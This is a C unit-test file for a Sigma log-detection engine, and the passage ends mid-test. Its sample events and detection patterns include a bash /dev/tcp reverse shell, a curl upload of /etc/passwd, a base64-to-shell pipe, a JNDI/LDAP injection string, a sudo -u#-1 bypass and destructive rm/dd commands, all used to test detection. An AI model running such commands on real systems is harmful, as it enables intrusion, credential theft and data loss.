/* test_sigma.c - the Sigma single-event engine: every supported feature with
 * events that must and must not match, every refusal with its file:line
 * sentence, directory loading, concurrent matching, and the SigmaHQ
 * Linux/web/network folders. */
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <setjmp.h>
#include <cmocka.h>

#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include "correlator/sigma.h"
#include "sensors/logs/logparse.h"

/* ---------------------------------------------------------------- helpers -- */

#define HEAD "title: test rule\nid: 00000000-0000-0000-0000-000000000001\nlogsource:\n  category: network\n"   /* flows and hand-made logs alike */
#define RULE(det) HEAD "detection:\n" det

typedef struct errs {
    int n;
    char last[1024];
} errs;

static void on_err(const char *msg, void *ud)
{
    errs *e = ud;
    e->n++;
    snprintf(e->last, sizeof e->last, "%s", msg);
}

static cs_ruleset *load_ok(const char *yaml)
{
    cs_ruleset *rs = NULL;
    errs e = {0};
    cs_rc rc;
    assert_int_equal(cs_ruleset_new(&rs), CS_OK);
    rc = cs_ruleset_load_string(rs, "test.yml", yaml, strlen(yaml), on_err, &e);
    if (rc != CS_OK) {
        print_error("unexpected refusal: %s\n", cs_err_msg());
    }
    assert_int_equal(rc, CS_OK);
    assert_int_equal(e.n, 0);
    assert_true(cs_ruleset_count(rs) >= 1);
    return rs;
}

/* Load must fail with a sentence naming test.yml:line and containing `what`. */
static void load_refused(const char *yaml, int line, const char *what)
{
    cs_ruleset *rs = NULL;
    errs e = {0};
    char where[64];
    cs_rc rc;
    assert_int_equal(cs_ruleset_new(&rs), CS_OK);
    rc = cs_ruleset_load_string(rs, "test.yml", yaml, strlen(yaml), on_err, &e);
    snprintf(where, sizeof where, "test.yml:%d:", line);
    if (rc != CS_ERR_RULE || strstr(cs_err_msg(), where) == NULL || strstr(cs_err_msg(), what) == NULL) {
        print_error("rc=%d msg='%s' (wanted '%s' and '%s')\n", rc, cs_err_msg(), where, what);
    }
    assert_int_equal(rc, CS_ERR_RULE);
    assert_non_null(strstr(cs_err_msg(), where));
    assert_non_null(strstr(cs_err_msg(), what));
    assert_int_equal(e.n, 1);
    assert_string_equal(e.last, cs_err_msg());
    assert_int_equal(cs_ruleset_count(rs), 0);
    cs_ruleset_free(rs);
}

static cs_fid fid(const char *name)
{
    cs_fid id = cs_field_intern(name, strlen(name));
    assert_int_not_equal(id, CS_F_NONE);
    return id;
}

/* An event from name/value string pairs, NULL-terminated. */
static cs_event *ev_str(const char *name, ...)
{
    cs_event *ev = cs_event_new(CS_KIND_LOG, 0);
    va_list ap;
    assert_non_null(ev);
    va_start(ap, name);
    for (const char *n = name; n != NULL; n = va_arg(ap, const char *)) {
        const char *v = va_arg(ap, const char *);
        assert_int_equal(cs_event_add_cstr(&ev, fid(n), v), CS_OK);
    }
    va_end(ap);
    return ev;
}

static bool matches(const cs_ruleset *rs, const cs_event *ev)
{
    return cs_ruleset_match(rs, ev, NULL, NULL) > 0;
}

/* One rule, one string field: does value v match? */
static bool m1(const cs_ruleset *rs, const char *field, const char *v)
{
    cs_event *ev = ev_str(field, v, NULL);
    bool r = matches(rs, ev);
    cs_event_free(ev);
    return r;
}

/* ------------------------------------------------------------ strings -- */

static void test_exact_case_folding(void **state)
{
    cs_ruleset *rs = load_ok(RULE("  selection:\n    Image: '/usr/bin/Curl'\n  condition: selection\n"));
    cs_event *ev;
    (void)state;
    assert_true(m1(rs, "Image", "/usr/bin/curl"));
    assert_true(m1(rs, "Image", "/USR/BIN/CURL"));
    assert_false(m1(rs, "Image", "/usr/bin/curl2"));
    assert_false(m1(rs, "Image", "x/usr/bin/curl"));
    assert_false(m1(rs, "Image", ""));
    assert_false(m1(rs, "CommandLine", "/usr/bin/curl"));   /* other field */
    ev = cs_event_new(CS_KIND_LOG, 0);
    assert_false(matches(rs, ev));                          /* absent */
    cs_event_free(ev);
    cs_ruleset_free(rs);
}

static void test_wildcards(void **state)
{
    cs_ruleset *rs;
    (void)state;
    rs = load_ok(RULE("  s:\n    a: 'foo*bar'\n  condition: s\n"));
    assert_true(m1(rs, "a", "foobar"));
    assert_true(m1(rs, "a", "FOO-x-BAR"));
    assert_false(m1(rs, "a", "foobarz"));
    assert_false(m1(rs, "a", "xfoobar"));
    cs_ruleset_free(rs);

    rs = load_ok(RULE("  s:\n    a: 'f?o'\n  condition: s\n"));
    assert_true(m1(rs, "a", "fxo"));
    assert_true(m1(rs, "a", "F?O"));
    assert_false(m1(rs, "a", "fo"));
    assert_false(m1(rs, "a", "fxxo"));
    cs_ruleset_free(rs);

    rs = load_ok(RULE("  s:\n    a: '*.exe'\n  condition: s\n"));   /* suffix */
    assert_true(m1(rs, "a", "c:\\x\\EVIL.EXE"));
    assert_true(m1(rs, "a", ".exe"));
    assert_false(m1(rs, "a", "evil.exe.txt"));
    cs_ruleset_free(rs);

    rs = load_ok(RULE("  s:\n    a: '/tmp/*'\n  condition: s\n"));   /* prefix */
    assert_true(m1(rs, "a", "/tmp/x"));
    assert_true(m1(rs, "a", "/tmp/"));
    assert_false(m1(rs, "a", "/var/tmp/x"));
    cs_ruleset_free(rs);

    rs = load_ok(RULE("  s:\n    a: '*wget*'\n  condition: s\n"));   /* contains */
    assert_true(m1(rs, "a", "sh -c WGET http://x"));
    assert_true(m1(rs, "a", "wget"));
    assert_false(m1(rs, "a", "wge t"));
    cs_ruleset_free(rs);

    rs = load_ok(RULE("  s:\n    a: 'a*b?*c'\n  condition: s\n"));   /* general glob */
    assert_true(m1(rs, "a", "a--bX--c"));
    assert_true(m1(rs, "a", "abxc"));
    assert_true(m1(rs, "a", "ab-b-c"));
    assert_false(m1(rs, "a", "abc"));
    assert_false(m1(rs, "a", "acbx"));
    assert_false(m1(rs, "a", "abxcd"));
    cs_ruleset_free(rs);

    rs = load_ok(RULE("  s:\n    a: '*#-*'\n  condition: s\n"));   /* CVE-2019-14287 style */
    assert_true(m1(rs, "a", "sudo -u#-1 id"));
    assert_false(m1(rs, "a", "sudo -u#1 id"));
    cs_ruleset_free(rs);

    /* substring search that must skip false candidates of its anchor byte */
    rs = load_ok(RULE("  s:\n    a|contains:\n      - 'Ab/Cd'\n      - 'x?/1 y'\n  condition: s\n"));
    assert_true(m1(rs, "a", "ab/cab/ab/CD"));
    assert_true(m1(rs, "a", "//xx/1 y"));
    assert_true(m1(rs, "a", "X-/1 Y"));
    assert_false(m1(rs, "a", "ab/cab/ab/c"));
    assert_false(m1(rs, "a", "x/1 y"));
    assert_false(m1(rs, "a", "/"));
    cs_ruleset_free(rs);

    rs = load_ok(RULE("  s:\n    a: '*/etc/*.d/*-x'\n  condition: s\n"));   /* glob, anchored end */
    assert_true(m1(rs, "a", "cat /ETC/init.d/a-b-X"));
    assert_true(m1(rs, "a", "/etc/.d/-x"));
    assert_false(m1(rs, "a", "cat /etc/init.d/a-b-x "));
    assert_false(m1(rs, "a", "cat /etc/init/a-x"));
    cs_ruleset_free(rs);

    rs = load_ok(RULE("  s:\n    a: '*'\n  condition: s\n"));   /* any value, but present */
    assert_true(m1(rs, "a", ""));
    assert_true(m1(rs, "a", "anything"));
    assert_false(m1(rs, "b", "anything"));
    cs_ruleset_free(rs);
}

static void test_escapes(void **state)
{
    cs_ruleset *rs;
    (void)state;
    rs = load_ok(RULE("  s:\n    a: 'x\\*y'\n  condition: s\n"));   /* \* is a literal star */
    assert_true(m1(rs, "a", "x*y"));
    assert_false(m1(rs, "a", "xzy"));
    assert_false(m1(rs, "a", "x\\*y"));
    cs_ruleset_free(rs);

    rs = load_ok(RULE("  s:\n    a: 'x\\?y'\n  condition: s\n"));
    assert_true(m1(rs, "a", "x?y"));
    assert_false(m1(rs, "a", "xzy"));
    cs_ruleset_free(rs);

    rs = load_ok(RULE("  s:\n    a: 'c:\\\\*'\n  condition: s\n"));   /* \\* : backslash, then wildcard */
    assert_true(m1(rs, "a", "c:\\windows"));
    assert_true(m1(rs, "a", "c:\\"));
    assert_false(m1(rs, "a", "c:windows"));
    cs_ruleset_free(rs);

    rs = load_ok(RULE("  s:\n    a: 'c:\\\\\\*'\n  condition: s\n"));   /* \\\* : backslash, literal star */
    assert_true(m1(rs, "a", "c:\\*"));
    assert_false(m1(rs, "a", "c:\\windows"));
    cs_ruleset_free(rs);

    rs = load_ok(RULE("  s:\n    a: 'C:\\Windows\\System32'\n  condition: s\n"));   /* other \ kept */
    assert_true(m1(rs, "a", "c:\\windows\\system32"));
    assert_false(m1(rs, "a", "c:windowssystem32"));
    cs_ruleset_free(rs);

    rs = load_ok(RULE("  s:\n    a|endswith: '\\'\n  condition: s\n"));   /* lone trailing \ kept */
    assert_true(m1(rs, "a", "dir\\"));
    assert_false(m1(rs, "a", "dir"));
    cs_ruleset_free(rs);
}

static void test_string_modifiers(void **state)
{
    cs_ruleset *rs;
    (void)state;
    rs = load_ok(RULE("  s:\n    a|contains:\n      - 'base64 -d'\n      - '/dev/tcp/'\n  condition: s\n"));
    assert_true(m1(rs, "a", "echo x | BASE64 -D | sh"));
    assert_true(m1(rs, "a", "bash -i >& /dev/tcp/1.2.3.4/80"));
    assert_false(m1(rs, "a", "base64"));
    cs_ruleset_free(rs);

    rs = load_ok(RULE("  s:\n    a|startswith: 'cmd'\n    b|endswith: '.sh'\n  condition: s\n"));
    {
        cs_event *ev = ev_str("a", "CMD /c", "b", "x.SH", NULL);
        assert_true(matches(rs, ev));
        cs_event_free(ev);
        ev = ev_str("a", "xcmd", "b", "x.sh", NULL);
        assert_false(matches(rs, ev));
        cs_event_free(ev);
        ev = ev_str("a", "cmd", "b", "x.sh.bak", NULL);
        assert_false(matches(rs, ev));
        cs_event_free(ev);
        ev = ev_str("a", "cmd", NULL);   /* b absent: AND fails */
        assert_false(matches(rs, ev));
        cs_event_free(ev);
    }
    cs_ruleset_free(rs);

    rs = load_ok(RULE("  s:\n    a|contains: 'a*c'\n  condition: s\n"));   /* wildcard inside contains */
    assert_true(m1(rs, "a", "xxabbbcxx"));
    assert_false(m1(rs, "a", "xxcbbbaxx"));
    cs_ruleset_free(rs);

    rs = load_ok(RULE("  s:\n    a|contains|cased: 'Secret'\n  condition: s\n"));
    assert_true(m1(rs, "a", "my Secret!"));
    assert_false(m1(rs, "a", "my secret!"));
    assert_false(m1(rs, "a", "my SECRET!"));
    cs_ruleset_free(rs);

    rs = load_ok(RULE("  s:\n    a|cased: 'Exact'\n  condition: s\n"));
    assert_true(m1(rs, "a", "Exact"));
    assert_false(m1(rs, "a", "exact"));
    cs_ruleset_free(rs);
}

static void test_all_modifier(void **state)
{
    cs_ruleset *rs;
    cs_event *ev;
    (void)state;
    rs = load_ok(RULE("  s:\n    CommandLine|contains|all:\n      - ' -F '\n      - 'http'\n  condition: s\n"));
    assert_true(m1(rs, "CommandLine", "curl -F @/etc/passwd http://x"));
    assert_false(m1(rs, "CommandLine", "curl -F @/etc/passwd"));
    assert_false(m1(rs, "CommandLine", "curl http://x"));
    /* a list field: each value may be found in a different element */
    ev = ev_str("CommandLine", "curl -F x", "CommandLine", "HTTP://y", NULL);
    assert_true(matches(rs, ev));
    cs_event_free(ev);
    cs_ruleset_free(rs);
}

static void test_keywords(void **state)
{
    cs_ruleset *rs;
    cs_event *ev;
    (void)state;
    rs = load_ok(RULE("  keywords:\n    - 'Failed password'\n    - 'authentication failure'\n"
                      "  condition: keywords\n"));
    assert_true(m1(rs, "message", "sshd[1]: FAILED PASSWORD for root from 1.2.3.4"));
    assert_true(m1(rs, "message", "pam_unix(sudo:auth): authentication failure; logname="));
    assert_false(m1(rs, "message", "Accepted password for root"));
    assert_false(m1(rs, "user.name", "failed password"));            /* not a keyword field */
    assert_true(m1(rs, "event.original", "<38>sshd: failed password"));   /* no message: raw line */
    ev = ev_str("message", "nothing here", "event.original", "failed password", NULL);
    assert_false(matches(rs, ev));   /* message wins when present */
    cs_event_free(ev);
    cs_ruleset_free(rs);

    /* '|all' keyword list: AND */
    rs = load_ok(RULE("  keywords:\n    '|all':\n      - 'dd'\n      - 'if=/dev/zero'\n  condition: keywords\n"));
    assert_true(m1(rs, "message", "dd IF=/dev/zero of=/x"));
    assert_false(m1(rs, "message", "dd if=/dev/urandom"));
    cs_ruleset_free(rs);

    /* keyword values keep wildcards and escapes; a single scalar is a keyword too */
    rs = load_ok(RULE("  k1: 'rm -rf *tmp'\n  k2:\n    - 'x\\*y'\n  condition: k1 or k2\n"));
    assert_true(m1(rs, "message", "sh: rm -rf /var/tmp now"));
    assert_true(m1(rs, "message", "a x*y b"));
    assert_false(m1(rs, "message", "a xzy b"));
    assert_false(m1(rs, "message", "rm -rf /"));
    cs_ruleset_free(rs);

    /* special characters of reverse shells are literal */
    rs = load_ok(RULE("  keywords:\n    - '${jndi:ldap:'\n    - \"'/bin/sh'\"\n  condition: keywords\n"));
    assert_true(m1(rs, "message", "GET /?x=${JNDI:LDAP://evil}"));
    assert_true(m1(rs, "message", "exec('/bin/sh')"));
    assert_false(m1(rs, "message", "jndi ldap"));
    cs_ruleset_free(rs);
}

static void test_null_and_empty(void **state)
{
    cs_ruleset *rs;
    cs_event *ev;
    (void)state;
    rs = load_ok(RULE("  s:\n    cs-uri-query: '/x'\n    cs-referer: null\n  condition: s\n"));
    assert_true(m1(rs, "cs-uri-query", "/x"));
    ev = ev_str("cs-uri-query", "/x", "cs-referer", "", NULL);
    assert_false(matches(rs, ev));   /* present (even empty) is not null */
    cs_event_free(ev);
    cs_ruleset_free(rs);

    rs = load_ok(RULE("  s:\n    a: ''\n  condition: s\n"));
    assert_true(m1(rs, "a", ""));
    assert_false(m1(rs, "a", "x"));
    assert_false(m1(rs, "b", ""));   /* absent is not empty */
    cs_ruleset_free(rs);

    /* not-null written as a negated selection */
    rs = load_ok(RULE("  s:\n    a: x\n  f:\n    b: ~\n  condition: s and not f\n"));
    ev = ev_str("a", "x", "b", "y", NULL);
    assert_true(matches(rs, ev));
    cs_event_free(ev);
    assert_false(m1(rs, "a", "x"));
    cs_ruleset_free(rs);

    /* empty plain value means null too */
    rs = load_ok(RULE("  s:\n    a:\n  condition: s\n"));
    assert_true(m1(rs, "b", "x"));
    assert_false(m1(rs, "a", "x"));
    cs_ruleset_free(rs);
}

static void test_numbers_and_bools(void **state)
{
    cs_ruleset *rs;
    cs_event *ev;
    (void)state;
    rs = load_ok(RULE("  s:\n    sc-status: 404\n  condition: s\n"));
    ev = cs_event_new(CS_KIND_HTTP, 0);
    assert_int_equal(cs_event_add_int(&ev, fid("sc-status"), 404), CS_OK);
    assert_true(matches(rs, ev));
    cs_event_free(ev);
    ev = cs_event_new(CS_KIND_HTTP, 0);
    assert_int_equal(cs_event_add_int(&ev, fid("sc-status"), 4040), CS_OK);
    assert_false(matches(rs, ev));
    cs_event_free(ev);
    ev = cs_event_new(CS_KIND_HTTP, 0);
    assert_int_equal(cs_event_add_float(&ev, fid("sc-status"), 404.0), CS_OK);
    assert_true(matches(rs, ev));
    cs_event_free(ev);
    assert_true(m1(rs, "sc-status", "404"));
    assert_false(m1(rs, "sc-status", "404 "));
    cs_ruleset_free(rs);

    /* a quoted number still matches an int field; lists of ports; prefix on a number */
    rs = load_ok(RULE("  s:\n    dst_port:\n      - '80'\n      - 443\n  t:\n    src_port|startswith: '10'\n"
                      "  condition: s or t\n"));
    for (int64_t p = 79; p <= 81; p++) {
        ev = cs_event_new(CS_KIND_FLOW, 0);
        assert_int_equal(cs_event_add_int(&ev, fid("dst_port"), p), CS_OK);
        assert_true(matches(rs, ev) == (p == 80));
        cs_event_free(ev);
    }
    ev = cs_event_new(CS_KIND_FLOW, 0);
    assert_int_equal(cs_event_add_int(&ev, fid("dst_port"), 443), CS_OK);
    assert_true(matches(rs, ev));
    cs_event_free(ev);
    ev = cs_event_new(CS_KIND_FLOW, 0);
    assert_int_equal(cs_event_add_int(&ev, fid("src_port"), 10022), CS_OK);
    assert_true(matches(rs, ev));
    cs_event_free(ev);
    ev = cs_event_new(CS_KIND_FLOW, 0);
    assert_int_equal(cs_event_add_int(&ev, fid("src_port"), 2210), CS_OK);
    assert_false(matches(rs, ev));
    cs_event_free(ev);
    cs_ruleset_free(rs);

    /* floats compare as numbers, not as %.17g text */
    rs = load_ok(RULE("  s:\n    ratio: 0.1\n  condition: s\n"));
    ev = cs_event_new(CS_KIND_LOG, 0);
    assert_int_equal(cs_event_add_float(&ev, fid("ratio"), 0.1), CS_OK);
    assert_true(matches(rs, ev));
    cs_event_free(ev);
    ev = cs_event_new(CS_KIND_LOG, 0);
    assert_int_equal(cs_event_add_float(&ev, fid("ratio"), 0.2), CS_OK);
    assert_false(matches(rs, ev));
    cs_event_free(ev);
    cs_ruleset_free(rs);

    /* booleans by text: "false" (quoted) and true (plain) against bool fields and strings */
    rs = load_ok(RULE("  s:\n    blocked: 'false'\n    ok: true\n  condition: s\n"));
    ev = cs_event_new(CS_KIND_FLOW, 0);
    assert_int_equal(cs_event_add_bool(&ev, fid("blocked"), false), CS_OK);
    assert_int_equal(cs_event_add_bool(&ev, fid("ok"), true), CS_OK);
    assert_true(matches(rs, ev));
    cs_event_free(ev);
    ev = cs_event_new(CS_KIND_FLOW, 0);
    assert_int_equal(cs_event_add_bool(&ev, fid("blocked"), true), CS_OK);
    assert_int_equal(cs_event_add_bool(&ev, fid("ok"), true), CS_OK);
    assert_false(matches(rs, ev));
    cs_event_free(ev);
    ev = ev_str("blocked", "FALSE", "ok", "True", NULL);
    assert_true(matches(rs, ev));
    cs_event_free(ev);
    cs_ruleset_free(rs);
}

static void test_ip_fields(void **state)
{
    cs_ruleset *rs;
    cs_event *ev;
    cs_ip ip;
    (void)state;
    /* exact address against an IP field, whatever the text form */
    rs = load_ok(RULE("  s:\n    source.ip:\n      - '10.0.0.1'\n      - '2001:DB8:0:0::1'\n  condition: s\n"));
    assert_true(cs_ip_parse("10.0.0.1", 8, &ip));
    ev = cs_event_new(CS_KIND_FLOW, 0);
    assert_int_equal(cs_event_add_ip(&ev, CS_F_SOURCE_IP, &ip), CS_OK);
    assert_true(matches(rs, ev));
    cs_event_free(ev);
    assert_true(cs_ip_parse("2001:db8::1", 11, &ip));
    ev = cs_event_new(CS_KIND_FLOW, 0);
    assert_int_equal(cs_event_add_ip(&ev, CS_F_SOURCE_IP, &ip), CS_OK);
    assert_true(matches(rs, ev));
    cs_event_free(ev);
    assert_true(cs_ip_parse("10.0.0.10", 9, &ip));
    ev = cs_event_new(CS_KIND_FLOW, 0);
    assert_int_equal(cs_event_add_ip(&ev, CS_F_SOURCE_IP, &ip), CS_OK);
    assert_false(matches(rs, ev));
    cs_event_free(ev);
    /* wildcards on an IP field use its text form */
    cs_ruleset_free(rs);
    rs = load_ok(RULE("  s:\n    source.ip|startswith: '192.168.'\n  condition: s\n"));
    assert_true(cs_ip_parse("192.168.7.1", 11, &ip));
    ev = cs_event_new(CS_KIND_FLOW, 0);
    assert_int_equal(cs_event_add_ip(&ev, CS_F_SOURCE_IP, &ip), CS_OK);
    assert_true(matches(rs, ev));
    cs_event_free(ev);
    cs_ruleset_free(rs);
}

static void test_regex(void **state)
{
    cs_ruleset *rs;
    (void)state;
    /* case-sensitive and unanchored by default */
    rs = load_ok(RULE("  s:\n    CommandLine|re: '-D'\n  condition: s\n"));
    assert_true(m1(rs, "CommandLine", "auditctl -D"));
    assert_true(m1(rs, "CommandLine", "x-Dy"));
    assert_false(m1(rs, "CommandLine", "auditctl -d"));
    cs_ruleset_free(rs);

    rs = load_ok(RULE("  s:\n    CommandLine|re|i: '^auditctl\\s+-D$'\n  condition: s\n"));
    assert_true(m1(rs, "CommandLine", "AUDITCTL  -d"));
    assert_false(m1(rs, "CommandLine", "sudo auditctl -D"));
    cs_ruleset_free(rs);

    /* m: ^ and $ at line breaks */
    rs = load_ok(RULE("  s:\n    a|re|m: '^second$'\n  condition: s\n"));
    assert_true(m1(rs, "a", "first\nsecond\nthird"));
    cs_ruleset_free(rs);
    rs = load_ok(RULE("  s:\n    a|re: '^second$'\n  condition: s\n"));
    assert_false(m1(rs, "a", "first\nsecond\nthird"));
    cs_ruleset_free(rs);

    /* s: dot matches a newline */
    rs = load_ok(RULE("  s:\n    a|re|s: 'begin.+end'\n  condition: s\n"));
    assert_true(m1(rs, "a", "begin\nend"));
    cs_ruleset_free(rs);
    rs = load_ok(RULE("  s:\n    a|re: 'begin.+end'\n  condition: s\n"));
    assert_false(m1(rs, "a", "begin\nend"));
    assert_true(m1(rs, "a", "begin-end"));
    cs_ruleset_free(rs);

    /* long flag names, inline (?i), (?:...), list of regexes (OR) */
    rs = load_ok(RULE("  s:\n    a|re|ignorecase|multiline|dotall:\n      - '(?:\\s-[^-\\s]{0,20}i|\\s--inode\\s)'\n"
                      "      - '(?i)ipfs\\.io/'\n  condition: s\n"));
    assert_true(m1(rs, "a", "ls -laI /x"));
    assert_true(m1(rs, "a", "GET https://IPFS.io/x"));
    assert_false(m1(rs, "a", "ls -l /x"));
    cs_ruleset_free(rs);

    /* regex against a number's text form, and on invalid UTF-8 */
    rs = load_ok(RULE("  s:\n    port|re: '^4[0-9]{2}$'\n  t:\n    b|re: 'x.y'\n  condition: s or t\n"));
    {
        cs_event *ev = cs_event_new(CS_KIND_LOG, 0);
        assert_int_equal(cs_event_add_int(&ev, fid("port"), 443), CS_OK);
        assert_true(matches(rs, ev));
        cs_event_free(ev);
        ev = cs_event_new(CS_KIND_LOG, 0);
        assert_int_equal(cs_event_add_int(&ev, fid("port"), 4430), CS_OK);
        assert_false(matches(rs, ev));
        cs_event_free(ev);
        ev = cs_event_new(CS_KIND_LOG, 0);
        assert_int_equal(cs_event_add_str(&ev, fid("b"), "\xff\xfe x-y \xc3", 9), CS_OK);
        assert_true(matches(rs, ev));
        cs_event_free(ev);
    }
    cs_ruleset_free(rs);
}

static cs_event *ev_ip(cs_fid id, const char *addr)
{
    cs_event *ev = cs_event_new(CS_KIND_FLOW, 0);
    cs_ip ip;
    assert_true(cs_ip_parse(addr, strlen(addr), &ip));
    assert_int_equal(cs_event_add_ip(&ev, id, &ip), CS_OK);
    return ev;
}

static bool mip(const cs_ruleset *rs, cs_fid id, const char *addr)
{
    cs_event *ev = ev_ip(id, addr);
    bool r = matches(rs, ev);
    cs_event_free(ev);
    return r;
}

static void test_cidr(void **state)
{
    cs_ruleset *rs;
    cs_fid dst = fid("DestinationIp");
    (void)state;
    rs = load_ok(RULE("  s:\n    DestinationIp|cidr:\n      - '10.0.0.0/8'\n      - '192.168.1.0/25'\n"
                      "      - 'fe80::/10'\n      - '2001:db8::1'\n      - '172.16.0.1/32'\n  condition: s\n"));
    assert_true(mip(rs, dst, "10.1.2.3"));
    assert_true(mip(rs, dst, "10.255.255.255"));
    assert_false(mip(rs, dst, "11.0.0.1"));
    assert_true(mip(rs, dst, "192.168.1.127"));
    assert_false(mip(rs, dst, "192.168.1.128"));   /* /25: bit 7 of the last byte */
    assert_true(mip(rs, dst, "fe80::1"));
    assert_true(mip(rs, dst, "febf:ffff::1"));
    assert_false(mip(rs, dst, "fec0::1"));
    assert_true(mip(rs, dst, "2001:db8::1"));
    assert_false(mip(rs, dst, "2001:db8::2"));
    assert_true(mip(rs, dst, "172.16.0.1"));
    assert_false(mip(rs, dst, "172.16.0.2"));
    assert_false(mip(rs, dst, "::ffff:10.0.0.1"));   /* v6 is not v4 */
    /* a string field holding an address */
    assert_true(m1(rs, "DestinationIp", "10.9.9.9"));
    assert_true(m1(rs, "DestinationIp", "FE80::abcd"));
    assert_false(m1(rs, "DestinationIp", "10.9.9.9 "));
    assert_false(m1(rs, "DestinationIp", "not an ip"));
    cs_ruleset_free(rs);

    /* cidr under not, as in the SigmaHQ network rules */
    rs = load_ok(RULE("  s:\n    Initiated: 'true'\n  f:\n    DestinationIp|cidr:\n      - '127.0.0.0/8'\n"
                      "      - '::1/128'\n      - '0.0.0.0/0'\n  condition: s and not f\n"));
    {
        cs_event *ev = ev_ip(dst, "8.8.8.8");
        assert_int_equal(cs_event_add_cstr(&ev, fid("Initiated"), "true"), CS_OK);
        assert_false(matches(rs, ev));   /* 0.0.0.0/0 covers all of v4 */
        cs_event_free(ev);
        ev = ev_ip(dst, "2001:4860::8888");
        assert_int_equal(cs_event_add_cstr(&ev, fid("Initiated"), "true"), CS_OK);
        assert_true(matches(rs, ev));
        cs_event_free(ev);
    }
    cs_ruleset_free(rs);
}

static void test_exists(void **state)
{
    cs_ruleset *rs;
    (void)state;
    rs = load_ok(RULE("  s:\n    a|exists: true\n  condition: s\n"));
    assert_true(m1(rs, "a", ""));
    assert_true(m1(rs, "a", "x"));
    assert_false(m1(rs, "b", "x"));
    cs_ruleset_free(rs);
    rs = load_ok(RULE("  s:\n    a|exists: false\n  condition: s\n"));
    assert_false(m1(rs, "a", "x"));
    assert_true(m1(rs, "b", "x"));
    cs_ruleset_free(rs);
}

static void test_field_lists(void **state)
{
    cs_ruleset *rs;
    cs_event *ev;
    (void)state;
    /* several fields with one id: any element may match */
    rs = load_ok(RULE("  s:\n    tags: 'evil'\n  condition: s\n"));
    ev = ev_str("tags", "good", "tags", "EVIL", "tags", "other", NULL);
    assert_true(matches(rs, ev));
    cs_event_free(ev);
    ev = ev_str("tags", "good", "tags", "evil2", NULL);
    assert_false(matches(rs, ev));
    cs_event_free(ev);
    cs_ruleset_free(rs);
}

static void test_field_names(void **state)
{
    cs_ruleset *rs;
    cs_event *ev;
    (void)state;
    /* an ECS name resolves to the canonical id; a foreign name is interned */
    rs = load_ok(RULE("  s:\n    process.name: 'bash'\n    cs-uri-query|contains: '/../'\n  condition: s\n"));
    assert_int_equal(cs_field_lookup("process.name", 12), CS_F_PROCESS_NAME);
    assert_int_not_equal(cs_field_lookup("cs-uri-query", 12), CS_F_NONE);
    ev = cs_event_new(CS_KIND_LOG, 0);
    assert_int_equal(cs_event_add_cstr(&ev, CS_F_PROCESS_NAME, "bash"), CS_OK);
    assert_int_equal(cs_event_add_cstr(&ev, cs_field_lookup("cs-uri-query", 12), "/cgi-bin/../../etc"), CS_OK);
    assert_true(matches(rs, ev));
    cs_event_free(ev);
    cs_ruleset_free(rs);
}

/* --------------------------------------------------- detections & cond -- */

static void test_list_of_maps(void **state)
{
    cs_ruleset *rs;
    cs_event *ev;
    (void)state;
    rs = load_ok(RULE("  s:\n    - Image|endswith: '/curl'\n      CommandLine|contains: ' -F '\n"
                      "    - Image|endswith: '/wget'\n  condition: s\n"));
    ev = ev_str("Image", "/usr/bin/curl", "CommandLine", "curl -F x", NULL);
    assert_true(matches(rs, ev));
    cs_event_free(ev);
    ev = ev_str("Image", "/usr/bin/curl", "CommandLine", "curl -O x", NULL);
    assert_false(matches(rs, ev));
    cs_event_free(ev);
    assert_true(m1(rs, "Image", "/usr/bin/wget"));
    assert_false(m1(rs, "Image", "/usr/bin/curl"));
    cs_ruleset_free(rs);
}

/* Rule over fields a, b, c, d holding "1" when present. */
static bool mabc(const cs_ruleset *rs, const char *present)
{
    cs_event *ev = cs_event_new(CS_KIND_LOG, 0);
    bool r;
    for (const char *p = present; *p; p++) {
        char name[2] = {*p, 0};
        assert_int_equal(cs_event_add_cstr(&ev, fid(name), "1"), CS_OK);
    }
    r = matches(rs, ev);
    cs_event_free(ev);
    return r;
}

#define ABCD "  a:\n    a: 1\n  b:\n    b: 1\n  c:\n    c: 1\n  d:\n    d: 1\n"

static void test_condition_precedence(void **state)
{
    cs_ruleset *rs;
    (void)state;
    /* and binds tighter than or */
    rs = load_ok(RULE(ABCD "  condition: a or b and c\n"));
    assert_true(mabc(rs, "a"));
    assert_false(mabc(rs, "b"));
    assert_true(mabc(rs, "bc"));
    cs_ruleset_free(rs);
    /* parentheses override */
    rs = load_ok(RULE(ABCD "  condition: (a or b) and c\n"));
    assert_false(mabc(rs, "a"));
    assert_true(mabc(rs, "ac"));
    assert_true(mabc(rs, "bc"));
    cs_ruleset_free(rs);
    /* not binds tighter than and */
    rs = load_ok(RULE(ABCD "  condition: not a and b\n"));
    assert_true(mabc(rs, "b"));
    assert_false(mabc(rs, "ab"));
    assert_false(mabc(rs, ""));
    cs_ruleset_free(rs);
    rs = load_ok(RULE(ABCD "  condition: not (a and b)\n"));
    assert_true(mabc(rs, "b"));
    assert_false(mabc(rs, "ab"));
    assert_true(mabc(rs, ""));
    cs_ruleset_free(rs);
    /* double negation, nested parentheses */
    rs = load_ok(RULE(ABCD "  condition: not not ((a) and ((b or c)) and not d)\n"));
    assert_true(mabc(rs, "ab"));
    assert_true(mabc(rs, "ac"));
    assert_false(mabc(rs, "abd"));
    assert_false(mabc(rs, "a"));
    cs_ruleset_free(rs);
    /* a list of conditions is their OR */
    rs = load_ok(RULE(ABCD "  condition:\n    - a and b\n    - c\n"));
    assert_true(mabc(rs, "ab"));
    assert_true(mabc(rs, "c"));
    assert_false(mabc(rs, "a"));
    cs_ruleset_free(rs);
}

static void test_condition_x_of(void **state)
{
    cs_ruleset *rs;
    const char *det = "  selection_a:\n    a: 1\n  selection_b:\n    b: 1\n  _private:\n    c: 1\n"
                      "  filter_d:\n    d: 1\n";
    char buf[512];
    (void)state;

    snprintf(buf, sizeof buf, RULE("%s  condition: 1 of selection_*\n"), det);
    rs = load_ok(buf);
    assert_true(mabc(rs, "a"));
    assert_true(mabc(rs, "b"));
    assert_false(mabc(rs, "cd"));
    cs_ruleset_free(rs);

    snprintf(buf, sizeof buf, RULE("%s  condition: all of selection_* and not 1 of filter_*\n"), det);
    rs = load_ok(buf);
    assert_true(mabc(rs, "ab"));
    assert_false(mabc(rs, "a"));
    assert_false(mabc(rs, "abd"));
    cs_ruleset_free(rs);

    /* them leaves out _private */
    snprintf(buf, sizeof buf, RULE("%s  condition: 1 of them\n"), det);
    rs = load_ok(buf);
    assert_false(mabc(rs, "c"));
    assert_true(mabc(rs, "d"));
